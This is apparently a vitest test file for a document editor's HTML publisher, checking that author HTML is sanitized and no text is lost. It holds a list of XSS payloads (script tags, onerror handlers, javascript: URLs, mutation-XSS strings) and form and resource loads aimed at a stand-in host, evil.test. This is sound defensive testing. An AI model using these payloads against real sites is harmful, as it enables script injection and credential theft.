import type { Node } from '@tiptap/pm/model';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import type { NodeJSON } from '../../../../renderer/document/draft';
import { documentSchema } from '../../../../renderer/document/schema';
import { publishHtml } from '../../../../renderer/publish/html/publish-html';
import {
  bullets,
  code,
  doc,
  h,
  image,
  item,
  linkTo,
  marked,
  node,
  p,
  table,
  title,
} from '../../support/build';
import { plainDocument, structuredDocument } from '../../support/random-document';
import { elements, faultsOf, readPage, text, type Element } from './page-tree';

const squeezed = (words: string) => words.replaceAll(/\s+/gu, '');

/** All text of a document that is not HTML of the author's own: what nothing may swallow. */
function wordsOf(document: Node): readonly string[] {
  const words: string[] = [];
  document.descendants((child, _, parent) => {
    if (child.isText && parent?.type.name !== 'htmlBlock') words.push(squeezed(child.text ?? ''));
  });
  return words;
}

function bodyText(page: Element): string {
  const body = elements(page).find(({ tagName }) => tagName === 'body');
  return body === undefined ? '' : squeezed(text(body));
}

const htmlBlock = (html: string) => node('htmlBlock', html === '' ? [] : [{ type: 'text', text: html }]);
const htmlInline = (value: string): NodeJSON => ({ type: 'htmlInline', attrs: { value } });

/** Ways in which HTML runs something, fetches something, or breaks out of where it stands. */
const attacks = [
  '<script>alert(1)</script>',
  '<script src="https://evil.test/x.js"></script>',
  '<SCRIPT\n>alert(1)</SCRIPT >',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.test/pixel.png" alt="pixel">',
  '<img srcset="https://evil.test/a.png 2x" src="">',
  '<picture><source srcset="https://evil.test/a.png"><img src="data:image/png;base64,AAAA"></picture>',
  '<svg onload=alert(1)><script>alert(1)</script><use href="https://evil.test/#a"/></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="java&#10;script:alert(1)">a</a>',
  '<a href=" &#1; javascript:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="vbscript:x" ping="https://evil.test">a</a>',
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="x.swf"><embed src="x.swf"></object>',
  '<form action="https://evil.test"><input name=password><button formaction="javascript:alert(1)">go</button></form>',
  '<input type="image" src="https://evil.test/x.png" autofocus onfocus=alert(1)>',
  '<meta http-equiv="refresh" content="0; url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<style>body { background: url(https://evil.test/x.png) }</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.test)">over</p>',
  '<div id="text" class="skip" name="contents">clobber</div>',
  '<details ontoggle=alert(1) open><summary>s</summary>d</details>',
  '<video poster="https://evil.test/x.png"><source src="x.mp4"></video>',
  '<table background="https://evil.test/x.png"><tr><td background="x">cell</table>',
  '</main></body></html><h1>second</h1>',
  '</style><script>alert(1)</script>',
  '<title>other</title>',
  '<h1>another title</h1>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea>',
  '<plaintext>',
  '<xmp>',
  '<select><option>',
  '<script>',
  '<style>',
  '<!--',
  '<!-- a --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<div',
  '<a href="',
  '<b><i><u>',
  '</p></li></ul></div>',
  '<table>',
  '<tr><td>',
  '<caption>own</caption>',
  '<table><caption></caption><tr><th></th><th>head</th></tr></table>',
  '<li value="x">loose',
  '<frameset><frame src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<img src="asset:0000">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img usemap="#m" src="data:image/png;base64,AAAA" longdesc="javascript:alert(1)">',
  '<q cite="javascript:alert(1)">q</q>',
  '<sup class="note-mark"><a href="#note-7" id="factor-1">7</a></sup>',
  '<input type="checkbox" checked>',
] as const;

describe('whatever the author’s HTML tries', () => {
  it.each(attacks)('%s leaves a harmless, well built page, with all words around it', (attack) => {
    const document = doc([
      title('Title'),
      h(2, 'Before'),
      p(['one ', htmlInline(attack), ' two ', htmlInline('</b>'), ' three']),
      htmlBlock(attack),
      p('four'),
      bullets(item(p(['five ', htmlInline(attack), ' six']), htmlBlock(attack))),
      table(['head', 'other'], [['seven ', htmlInline(attack), ' eight'], 'nine']),
      node('timeline', [node('event', [p(['ten ', htmlInline(attack)]), htmlBlock(attack), p('eleven')])]),
      h(2, 'After'),
      code('twelve'),
    ]);
    const page = readPage(publishHtml(document).html);
    expect(faultsOf(page)).toEqual([]);
    const found = bodyText(page);
    for (const words of wordsOf(document)) expect(found).toContain(words);
  });

  it('holds for any mixture', () => {
    const piece = fc.constantFrom(...attacks);
    const block = fc.oneof(
      piece.map(htmlBlock),
      fc
        .tuple(piece, piece)
        .map(([one, two]) => p(['words ', htmlInline(one), ' between ', htmlInline(two), ' end'])),
      fc.constant(h(3, 'A heading')),
      fc.constant(table(['a', 'b'], ['c', 'd'])),
    );
    fc.assert(
      fc.property(fc.array(block, { maxLength: 8 }), (blocks) => {
        const document = doc([title('Title'), ...blocks]);
        const page = readPage(publishHtml(document).html);
        expect(faultsOf(page)).toEqual([]);
        const found = bodyText(page);
        for (const words of wordsOf(document)) expect(found).toContain(words);
      }),
      { numRuns: 120 },
    );
  }, 30_000);

  it('says what was left out, with the block, and says nothing where nothing was', () => {
    const told = (html: string) =>
      publishHtml(doc([title('T'), { ...htmlBlock(html), attrs: { id: 'b1' } }])).losses;
    expect(told('<div onclick="x()" style="color: red"><script>x()</script>kept</div>')).toEqual([
      {
        kind: 'html',
        message: 'Left out of the HTML in the text: <script>; the attributes onclick, style.',
        block: 'b1',
      },
    ]);
    expect(told('<details open><summary>Logs</summary>\n')).toEqual([]);
    expect(told('<!-- more -->')).toEqual([]);
    expect(told('<kbd>Ctrl</kbd> and H<sub>2</sub>O')).toEqual([]);
  });

  it('lets HTML open in one block and close in another', () => {
    const document = doc([
      title('T'),
      htmlBlock('<details><summary>Logs</summary>'),
      p('inside'),
      htmlBlock('</details>'),
      p('outside'),
    ]);
    const [details] = elements(readPage(publishHtml(document).html)).filter(
      ({ tagName }) => tagName === 'details',
    );
    expect(details === undefined ? '' : squeezed(text(details))).toBe('Logsinside');
  });
});

describe('links and images of the text', () => {
  it.each([
    'javascript:alert(1)',
    ' java\nscript:alert(1)',
    'data:text/html,x',
    'file:///etc/passwd',
    'vbscript:x',
  ])('a link to %j is text', (href) => {
    const { html, losses } = publishHtml(doc([title('T'), p([marked('words', linkTo(href))])]));
    expect(faultsOf(readPage(html))).toEqual([]);
    expect(html).toContain('<p dir="auto">words</p>');
    expect(losses.map((loss) => loss.kind)).toEqual(['unsafe-link']);
  });

  it('an image that lies elsewhere is a link, and said', () => {
    const { html, losses } = publishHtml(doc([title('T'), p([image('https://x.test/a.png', 'graph')])]));
    expect(html).toContain('<a href="https://x.test/a.png">graph</a>');
    expect(losses.map((loss) => loss.kind)).toEqual(['image']);
  });
});

describe('any document', () => {
  const isWhole = (document: Node) => {
    const page = readPage(publishHtml(document, { audience: 'internal' }).html);
    expect(faultsOf(page)).toEqual([]);
    const found = bodyText(page);
    for (const words of wordsOf(document)) expect(found).toContain(words);
  };

  it('of plain blocks is a well built page with every word', () => {
    fc.assert(fc.property(plainDocument, isWhole), { numRuns: 120 });
  }, 30_000);

  it('with structured blocks is a well built page with every word', () => {
    fc.assert(fc.property(structuredDocument, isWhole), { numRuns: 120 });
  }, 30_000);

  it('gives the same bytes each time', () => {
    fc.assert(
      fc.property(structuredDocument, (document) => {
        const again = documentSchema.nodeFromJSON(document.toJSON());
        expect(publishHtml(again).html).toBe(publishHtml(document).html);
      }),
      { numRuns: 40 },
    );
  }, 30_000);
});
